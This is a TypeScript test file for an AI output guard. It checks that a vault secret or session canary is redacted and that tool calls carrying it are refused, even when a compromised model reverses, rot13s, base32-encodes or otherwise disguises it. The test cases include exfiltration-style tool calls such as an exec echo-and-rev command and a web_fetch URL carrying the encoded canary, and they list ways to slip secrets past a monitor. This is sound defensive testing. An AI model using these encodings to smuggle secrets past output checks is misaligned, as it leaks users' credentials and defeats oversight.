/**
 * The reversible transforms of a compromised model, against the output guard: a vault value or this session's
 * canary reversed, case-changed, rot13'd, in base32, as character codes, cut in two halves, dashed or spaced is
 * redacted in a response (whole and streamed alike) and refuses a tool call that carries it.
 */
import { describe, expect, it } from 'vitest';
import { base32Encode, rot13 } from '../../src/text/reversible.js';
import { transforms } from '../secrets/transforms-fixture.js';
import { CTX, VAULT_VALUE, makeGuard, streamAll } from './helpers.js';

const { guard } = makeGuard();
const canary = guard.canary(CTX.sessionId);

function canaryTransforms(c: string): Array<[string, string]> {
  const codes = [...c].map((x) => x.charCodeAt(0));
  return [
    ['reversed', [...c].reverse().join('')],
    ['lower case', c.toLowerCase()],
    ['rot13', rot13(c)],
    ['base32', base32Encode(Buffer.from(c))],
    ['base32 lower case', base32Encode(Buffer.from(c)).toLowerCase()],
    ['decimal char codes', codes.join(', ')],
    ['HTML entities', codes.map((x) => `&#${x};`).join('')],
    ['hex char codes', codes.map((x) => `0x${x.toString(16)}`).join(',')],
    ['first half', c.slice(0, 12)],
    ['last twelve', c.slice(-12)],
    ['dashed', [...c].join('-')],
    ['spaced', [...c].join(' ')],
  ];
}

describe('vault value transforms in responses and tool arguments (L02)', () => {
  it.each(transforms(VAULT_VALUE))('%s', (_label, encoded) => {
    const text = `Here you go: ${encoded} — done.`;
    const whole = guard.scanText(text, CTX);
    expect(whole.ok).toBe(true);
    if (!whole.ok) return;
    expect(whole.value.findings.some((f) => f.patternId === 'leak.known_value')).toBe(true);
    expect(streamAll(guard, text.match(/[\s\S]{1,5}/g) ?? [])).toBe(whole.value.text);
    const call = guard.checkToolCall({ name: 'exec', arguments: JSON.stringify({ command: `echo ${encoded}` }) }, CTX);
    expect(call.ok).toBe(false);
    if (!call.ok) expect(call.error).toMatchObject({ code: 'output.secret_in_tool_call', layer: 'L02' });
  });

  it('`echo <reversed> | rev > f` is refused at the tool-argument scan', () => {
    const reversed = [...VAULT_VALUE].reverse().join('');
    const r = guard.checkToolCall(
      { name: 'exec', arguments: JSON.stringify({ command: `echo ${reversed} | rev > f` }) },
      CTX,
    );
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error.message).toContain('reversed');
  });
});

describe('canary transforms in responses and tool arguments (L17)', () => {
  it.each(canaryTransforms(canary))('%s', (_label, encoded) => {
    const text = `The marker is ${encoded} ok`;
    const whole = guard.scanText(text, CTX);
    expect(whole.ok).toBe(true);
    if (!whole.ok) return;
    expect(whole.value.findings.some((f) => f.patternId === 'canary.session')).toBe(true);
    expect(streamAll(guard, text.match(/[\s\S]{1,5}/g) ?? [])).toBe(whole.value.text);
    const call = guard.checkToolCall(
      { name: 'web_fetch', arguments: JSON.stringify({ url: `https://x.test/?q=${encoded}` }) },
      CTX,
    );
    expect(call.ok).toBe(false);
    if (!call.ok) expect(call.error).toMatchObject({ code: 'output.canary_in_tool_call', layer: 'L17' });
  });
});
